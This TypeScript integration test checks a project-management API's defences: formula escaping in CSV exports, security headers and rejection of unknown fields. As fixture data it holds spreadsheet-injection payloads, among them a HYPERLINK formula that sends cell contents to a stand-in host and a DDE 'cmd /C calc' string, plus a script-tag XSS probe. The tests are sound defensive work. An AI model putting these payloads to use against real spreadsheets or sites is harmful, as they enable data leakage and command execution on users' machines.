import { randomUUID } from 'node:crypto';
import { defaultYearPolicy } from '../../libs/domain/index.js';
import { draftBody, ok } from '../support/api.js';
import { closeApiStack, startApiStack, type ApiStack } from '../support/api-stack.js';
import { pollUntil } from '../support/poll-until.js';

/**
 * Issue 13, items 3 and 6, against the real stack: no spreadsheet formula comes out of an export, every answer carries
 * security headers (file downloads and /docs included), and documents checked by libs/domain refuse unknown fields
 * at any depth.
 */
type Body = Record<string, any>;

/** RFC 4180, as Excel reads it: quoted fields with doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted) {
      if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += c;
  }
  return rows;
}

describe('edge hardening: exports, headers, unknown fields', () => {
  let running: ApiStack;

  beforeAll(async () => {
    running = await startApiStack();
  });

  afterAll(() => closeApiStack(running ?? {}, ''));

  const as = (who: 'chen' | 'zhang' | 'li') => running.api.as(running.org.people[who].token);
  const openTask = async (who: 'zhang' | 'li', match: (t: Body) => boolean): Promise<Body> =>
    (await pollUntil(async () => ok(await as(who).get('/tasks')) as Body[], (list) => list.some(match), { timeoutMs: 30_000, what: `an open task for ${who}` })).find(match) as Body;

  /** chen's project through its launch approval, active, with a finding whose every text is a formula. */
  async function findingOfFormulas(): Promise<{ projectId: string; itemIds: string[] }> {
    const draft = ok(await as('chen').post('/projects', draftBody(running.org.units.branch, { title: `导出-${randomUUID().slice(0, 6)}` })));
    ok(await as('chen').post(`/projects/${draft.id}/submit`, {}, { idempotencyKey: randomUUID() }));
    ok(await as('zhang').post(`/tasks/${(await openTask('zhang', (t) => t.projectId === draft.id)).id}/decision`, { decision: 'approve' }));
    ok(await as('li').post(`/tasks/${(await openTask('li', (t) => t.projectId === draft.id)).id}/decision`, { decision: 'approve' }));
    await pollUntil(async () => ok(await as('chen').get(`/projects/${draft.id}`)).status, (s) => s === 'active', { timeoutMs: 30_000, what: 'the project active' });
    const owners = { partyOwnerId: running.org.people.chen.id, businessOwnerId: running.org.people.zhang.id };
    const raised = ok(
      await as('li').post(`/projects/${draft.id}/findings`, {
        description: '=HYPERLINK("http://x/?x="&A1,"点击查看")',
        severity: 'general',
        items: ['+1+1', '@SUM(1,1)', "-2+3+cmd|' /C calc'!A0"].map((measures) => ({ measures, ...owners })),
      }),
    );
    return { projectId: draft.id, itemIds: (raised.items as Body[]).map((i) => i.itemId as string) };
  }

  it('writes every formula-like cell of the ledger export behind a single quote, and numbers as numbers', async () => {
    await findingOfFormulas();
    const res = await as('li').get('/ledger/export.csv');
    expect([res.status, res.headers['x-content-type-options']]).toEqual([200, 'nosniff']);
    const [header, ...rows] = parseCsv(res.text.replace(/^\uFEFF/, ''));
    const column = (name: string) => header.indexOf(name);
    const ours = rows.filter((r) => r[column('问题描述')].includes('HYPERLINK'));
    expect(ours.map((r) => [r[column('问题描述')], r[column('整改措施')], r[column('轮次')]])).toEqual(
      expect.arrayContaining([
        [`'=HYPERLINK("http://x/?x="&A1,"点击查看")`, "'+1+1", '1'],
        [`'=HYPERLINK("http://x/?x="&A1,"点击查看")`, "'@SUM(1,1)", '1'],
        [`'=HYPERLINK("http://x/?x="&A1,"点击查看")`, "'-2+3+cmd|' /C calc'!A0", '1'],
      ]),
    );
    expect(ours).toHaveLength(3);
    // No cell of the whole export, whoever wrote it, starts a formula.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('puts security headers on every answer: JSON, refusals, /docs and file downloads', async () => {
    const expectHardened = (res: { headers: Record<string, string> }) => {
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['x-frame-options']).toBe('DENY');
      expect(res.headers['referrer-policy']).toBe('no-referrer');
      expect(res.headers['strict-transport-security']).toMatch(/^max-age=\d+/);
      expect(res.headers['content-security-policy']).toContain("default-src 'self'");
      expect(res.headers['content-security-policy']).toContain("frame-ancestors 'none'");
      expect(res.headers['x-powered-by']).toBeUndefined();
    };
    const http = running.api.http();
    expectHardened(await http.get('/health/live'));
    expectHardened(await running.api.http().get('/projects'));
    const docs = await running.api.http().get('/docs/');
    expect(docs.status).toBe(200);
    expectHardened(docs);
    // Swagger UI loads its scripts from /docs itself, which the policy allows; it runs no inline script.
    const scripts = [...docs.text.matchAll(/<script src="([^"]+)"/g)].map((m) => m[1]);
    expect(scripts.length).toBeGreaterThan(0);
    expect(docs.text).not.toMatch(/<script>/);
    for (const src of scripts) expect((await running.api.http().get(new URL(src, 'http://x/docs/').pathname)).status).toBe(200);

    const { itemIds } = await findingOfFormulas();
    const text = { name: '整改说明.txt', contentType: 'text/plain', data: Buffer.from('<script>alert(1)</script> 已整改') };
    ok(await as('chen').upload(`/rectifications/${itemIds[0]}/evidence`, { text: '已整改' }, [text], { idempotencyKey: randomUUID() }));
    const item = ok(await as('li').get(`/rectifications/${itemIds[0]}`));
    const download = await as('li').get(`/rectifications/${itemIds[0]}/files/${item.evidence[0].files[0].id}`);
    expect([download.status, download.headers['content-type']]).toEqual([200, 'text/plain; charset=utf-8']);
    expectHardened(download);
  });

  it("refuses a year's policy carrying an unknown field at any depth, naming each, and stores nothing", async () => {
    const admin = running.api.as(running.adminToken);
    const base = defaultYearPolicy(2031);
    const before = ok(await admin.get('/policies/2031'));
    const res = await admin.put('/policies/2031', {
      ...base,
      evil: 1,
      quarterly: { ...base.quarterly, evil: 'x' },
      rectification: { ...base.rectification, ladder: { ...base.rectification.ladder, escalate: [{ after: '1d', to: 'owner', cc: 'me' }] } },
    });
    expect([res.status, res.body.message]).toEqual([
      400,
      // In the document's own order: quarterly and rectification stand where the policy has them, evil was added last.
      ['quarterly.evil 不能提交未定义的字段「quarterly.evil」，请删除', 'rectification.ladder.escalate[0].cc 不能提交未定义的字段「rectification.ladder.escalate[0].cc」，请删除', 'evil 不能提交未定义的字段「evil」，请删除'],
    ]);
    expect(ok(await admin.get('/policies/2031'))).toEqual(before);
    // The same document without them is taken as it is.
    expect(ok(await admin.put('/policies/2031', { ...base, version: 'edge-1' })).version).toBe('edge-1');
  });

  it('refuses an unknown field inside a nested DTO as the global pipe does at the top', async () => {
    const res = await as('chen').post('/projects', draftBody(running.org.units.branch, { goals: [{ title: '隐患排查', target: '≥ 40 项', evil: 1 }] }));
    expect([res.status, res.body.message]).toEqual([400, ['goals.0.evil: 不能提交未定义的字段「goals.0.evil」']]);
  });

  it("refuses a campaign whose due rule, reminders or ladder carry an unknown field", async () => {
    const res = await running.api.as(running.adminToken).post(
      '/campaigns',
      {
        title: '述职述责',
        instructions: '按模板报送',
        targets: { kinds: ['branch'] },
        dueRule: { kind: 'working_days_after', days: 10, at: '17:30', evil: true },
        remindOn: [{ workingDaysBefore: 1, at: '09:00', cc: 'x' }],
        ladder: { remindBefore: ['1d'], escalate: [{ after: '1h', to: 'owner' }], evil: 1 },
      },
      { idempotencyKey: randomUUID() },
    );
    expect([res.status, res.body.message]).toEqual([400, ['dueRule.evil 不能提交未定义的字段「dueRule.evil」，请删除', 'remindOn[0].cc 不能提交未定义的字段「remindOn[0].cc」，请删除', 'ladder.evil 不能提交未定义的字段「ladder.evil」，请删除']]);
  });
});
